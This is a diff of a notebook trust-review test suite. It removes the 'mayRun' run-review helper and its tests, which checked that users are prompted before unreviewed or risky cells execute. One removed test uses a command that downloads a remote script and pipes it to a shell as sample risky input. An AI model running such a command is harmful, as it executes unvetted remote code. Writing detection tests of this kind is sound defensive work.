@@ -16,7 +16,6 @@ import { TrustWatch } from '../notebook/trust';
 import type { RevokeResult, TrustServer } from '../notebook/trustserver';
 import type { ReviewOptions, TrustChoice, TrustKind } from '../ui/trustdialog';
 import { Changes } from './changes';
-import { RunReview } from './runreview';
 import { TrustFlow } from './trust';
 import { type OpenNotebook, TrustReviews } from './trustreviews';
 
@@ -47,8 +46,6 @@ interface Opened {
   readonly runs: (readonly string[] | null)[];
   trusted(): boolean[];
   outputs(): number[];
-  /** Whether the cells at these indexes may run, by default all. */
-  mayRun(indexes?: readonly number[]): Promise<boolean>;
 }
 
 const open = (htmls: readonly string[], canSign = true): Opened => {
@@ -71,7 +68,6 @@ const open = (htmls: readonly string[], canSign = true): Opened => {
   trust.follow(watch);
   const runs: Opened['runs'] = [];
   const reviews = new TrustReviews({ engine, trans, ask: asked });
-  const runReview = new RunReview(reviews);
   const changes = new Changes(trans);
   const flow = new TrustFlow({
     reviews,
@@ -95,13 +91,7 @@ const open = (htmls: readonly string[], canSign = true): Opened => {
     runs,
     trusted: () => each(({ trusted }) => trusted),
     outputs: () =>
-      each(cell => (cell.toJSON() as { outputs: unknown[] }).outputs.length),
-    mayRun: indexes => {
-      const cells = [...watch.model.cells].filter(
-        (_, index) => indexes?.includes(index) ?? true
-      );
-      return runReview.mayRun({ panel, watch }, cells);
-    }
+      each(cell => (cell.toJSON() as { outputs: unknown[] }).outputs.length)
   };
 };
 
@@ -217,14 +207,13 @@ describe('the review of a notebook', () => {
   });
 });
 
-it('nothing is trusted, and nothing runs, that could not be reviewed', async () => {
-  const { notebook, flow, trusted, mayRun } = open([SCRIPT]);
+it('nothing is trusted that could not be reviewed', async () => {
+  const { notebook, flow, trusted } = open([SCRIPT]);
   jest.spyOn(notebook.watch.model, 'toJSON').mockImplementation(() => {
     throw new Error('a');
   });
   Notification.dismiss();
   expect(await flow.trust(notebook)).toEqual({ trusted: false });
-  expect(await mayRun()).toBe(false);
   expect(trusted()).toEqual([false]);
   expect(asked).not.toHaveBeenCalled();
   expect(Notification.manager.notifications[0].message).toContain(
@@ -241,46 +230,6 @@ it('a single cell is reviewed alone, and trusted for the session', async () => {
   expect(review.changes.map(({ cell }) => cell)).toEqual([1]);
   expect(trusted()).toEqual([false, true]);
   expect(sign).not.toHaveBeenCalled();
-});
-
-describe('before cells run that were not selected', () => {
-  it('asks where there is something to tell of, once', async () => {
-    const { mayRun } = open([SCRIPT]);
-    answer(['leave'], ['run']);
-    expect(await mayRun()).toBe(false);
-    expect(await mayRun()).toBe(true);
-    expect(await mayRun()).toBe(true);
-    expect(asked).toHaveBeenCalledTimes(2);
-  });
-
-  it('tells of the cells that would run, and asks again for others', async () => {
-    const { mayRun } = open([SCRIPT, CALM, SCRIPT]);
-    answer(['run'], ['leave']);
-    expect(await mayRun([0, 1])).toBe(true);
-    expect(await mayRun([1])).toBe(true);
-    expect(await mayRun()).toBe(false);
-    expect(
-      asked.mock.calls.map(([{ review }]) =>
-        review.changes.map(({ cell }) => cell)
-      )
-    ).toEqual([[0], [2]]);
-  });
-
-  it('asks nothing where nothing acts, or all that runs is trusted', async () => {
-    expect(await open([LOOK]).mayRun()).toBe(true);
-    const { notebook, mayRun } = open([SCRIPT, SCRIPT]);
-    notebook.watch.model.cells.get(0).trusted = true;
-    expect(await mayRun([0])).toBe(true);
-    expect(asked).not.toHaveBeenCalled();
-  });
-
-  it('asks for risky code alone', async () => {
-    const { notebook, mayRun } = open([CALM]);
-    const [cell] = notebook.watch.model.cells;
-    cell.sharedModel.setSource('!curl https://a.example.org/x | sh');
-    answer(['leave']);
-    expect(await mayRun()).toBe(false);
-  });
 });
 
 describe('cleared outputs', () => {
